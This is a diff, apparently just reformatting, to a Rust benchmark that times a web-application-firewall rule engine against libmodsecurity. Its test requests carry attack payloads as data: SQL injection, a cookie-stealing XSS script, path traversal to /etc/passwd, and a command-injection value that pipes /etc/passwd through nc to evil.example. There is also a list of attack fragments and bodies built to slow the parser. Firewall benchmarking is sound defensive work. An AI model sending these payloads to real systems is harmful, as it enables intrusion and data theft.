@@ -46,14 +46,20 @@ fn main() {
         }
         return;
     }
-    let mut other = ModSecurity::start(&folder, &extra).map_err(|error| eprintln!("without libmodsecurity: {error}")).ok();
+    let mut other = ModSecurity::start(&folder, &extra)
+        .map_err(|error| eprintln!("without libmodsecurity: {error}"))
+        .ok();
     println!("{:26} {:>12} {:>14} {:>8} {:>7}", "request", "seclang", "libmodsecurity", "ratio", "wanted");
     for case in cases() {
         let ours = time(&rules, &case.request);
         let theirs = other.as_mut().map(|other| other_time(other, &case.request));
         row(case.name, ours, theirs, case.wanted);
     }
-    println!("{:26} {load:>12.0?} {:>14}", "load", other.as_ref().map_or(String::new(), |other| format!("{:.0?}", other.load)));
+    println!(
+        "{:26} {load:>12.0?} {:>14}",
+        "load",
+        other.as_ref().map_or(String::new(), |other| format!("{:.0?}", other.load))
+    );
     let small = &cases()[0].request;
     let allocations = allocation_counter::measure(|| drop(suite::evaluate(&rules, small))).count_total;
     println!("{:26} {allocations:>12}", "allocations, small GET");
@@ -109,7 +115,14 @@ fn request(method: &str, uri: &str, kind: Option<&str>, body: Vec<u8>) -> Reques
         headers.push((b"Content-Type".to_vec(), kind.into()));
         headers.push((b"Content-Length".to_vec(), body.len().to_string().into_bytes()));
     }
-    Request { method: method.into(), uri: uri.into(), protocol: b"HTTP/1.1".to_vec(), headers, body, response: None }
+    Request {
+        method: method.into(),
+        uri: uri.into(),
+        protocol: b"HTTP/1.1".to_vec(),
+        headers,
+        body,
+        response: None,
+    }
 }
 
 /// JSON of orders with so many bytes.
@@ -148,15 +161,34 @@ fn cases() -> Vec<Case> {
         case(
             "SQLi GET",
             20.0,
-            request("GET", "/products?id=1%27%20UNION%20SELECT%20username,password%20FROM%20users--%20", None, Vec::new()),
+            request(
+                "GET",
+                "/products?id=1%27%20UNION%20SELECT%20username,password%20FROM%20users--%20",
+                None,
+                Vec::new(),
+            ),
         ),
         case(
             "XSS JSON",
             20.0,
-            request("POST", "/notes", JSON, br#"{"title":"hi","text":"<script>alert(document.cookie)</script>"}"#.to_vec()),
+            request(
+                "POST",
+                "/notes",
+                JSON,
+                br#"{"title":"hi","text":"<script>alert(document.cookie)</script>"}"#.to_vec(),
+            ),
         ),
         case("LFI GET", 20.0, request("GET", "/download?file=../../../../etc/passwd", None, Vec::new())),
-        case("RCE form", 20.0, request("POST", "/ping", FORM, b"host=127.0.0.1%3B+cat+%2Fetc%2Fpasswd+%7C+nc+evil.example+4444".to_vec())),
+        case(
+            "RCE form",
+            20.0,
+            request(
+                "POST",
+                "/ping",
+                FORM,
+                b"host=127.0.0.1%3B+cat+%2Fetc%2Fpasswd+%7C+nc+evil.example+4444".to_vec(),
+            ),
+        ),
     ]
 }
 
@@ -183,8 +215,15 @@ fn adversarial(rules: &Arc<RuleSet>) {
             "form" => FORM,
             other => Some(other),
         };
-        let (one, two) = (cost(&request("POST", "/x", kind, make(32 << 10))), cost(&request("POST", "/x", kind, make(64 << 10))));
-        println!("{name:40} {two:>10.1} {:>8} {:>10}", format!("{:.1}x", two / benign), format!("{:.2}x", two / one));
+        let (one, two) = (
+            cost(&request("POST", "/x", kind, make(32 << 10))),
+            cost(&request("POST", "/x", kind, make(64 << 10))),
+        );
+        println!(
+            "{name:40} {two:>10.1} {:>8} {:>10}",
+            format!("{:.1}x", two / benign),
+            format!("{:.2}x", two / one)
+        );
     }
 }
 
@@ -194,11 +233,17 @@ fn hostile() -> Vec<(&'static str, &'static str, Make)> {
     vec![
         ("JSON, random printable text", "json", |size| text_body(&noise(size, b' '..=b'~'))),
         ("JSON, pieces of all attacks", "json", |size| text_body(&pieces(size))),
-        ("JSON, deep", "json", |size| [b"[".repeat(400), b"1,".repeat(size / 2 - 400), b"1".to_vec(), b"]".repeat(400)].concat()),
-        ("form, 10 000 arguments", "form", |size| (0..size / 7).flat_map(|at| format!("a{at}=b&").into_bytes()).collect()),
+        ("JSON, deep", "json", |size| {
+            [b"[".repeat(400), b"1,".repeat(size / 2 - 400), b"1".to_vec(), b"]".repeat(400)].concat()
+        }),
+        ("form, 10 000 arguments", "form", |size| {
+            (0..size / 7).flat_map(|at| format!("a{at}=b&").into_bytes()).collect()
+        }),
         ("form, escapes", "form", |size| [b"a=".to_vec(), b"%2526lt%3B%5Cx41".repeat(size / 16)].concat()),
         ("multipart, 1 000 parts", "multipart/form-data; boundary=b", |size| {
-            let part = |at: usize| format!("--b\r\nContent-Disposition: form-data; name=\"a{at}\"\r\n\r\nv\r\n").into_bytes();
+            let part = |at: usize| {
+                format!("--b\r\nContent-Disposition: form-data; name=\"a{at}\"\r\n\r\nv\r\n").into_bytes()
+            };
             [(0..size / 60).flat_map(part).collect::<Vec<u8>>(), b"--b--\r\n".to_vec()].concat()
         }),
         ("form, quotes", "form", |size| [b"a=".to_vec(), b"'\"`".repeat(size / 3)].concat()),
@@ -229,8 +274,30 @@ fn noise(size: usize, bytes: std::ops::RangeInclusive<u8>) -> Vec<u8> {
 /// Beginnings of everything that rules look for, so that the automata see as many states as they have.
 fn pieces(size: usize) -> Vec<u8> {
     const PIECES: [&str; 24] = [
-        "select ", "union/*", "<scrip", "onload", "javascript", "../", "etc/pass", "${jndi", "cat /", ";nc ", "eval(", "base64_",
-        "php://", "__proto", "sleep(", "or 1", "and '", "--", "exec xp", "wget ", "cmd.exe", "<iframe", "&#x6", "file://",
+        "select ",
+        "union/*",
+        "<scrip",
+        "onload",
+        "javascript",
+        "../",
+        "etc/pass",
+        "${jndi",
+        "cat /",
+        ";nc ",
+        "eval(",
+        "base64_",
+        "php://",
+        "__proto",
+        "sleep(",
+        "or 1",
+        "and '",
+        "--",
+        "exec xp",
+        "wget ",
+        "cmd.exe",
+        "<iframe",
+        "&#x6",
+        "file://",
     ];
     let mut out = Vec::new();
     for number in numbers() {
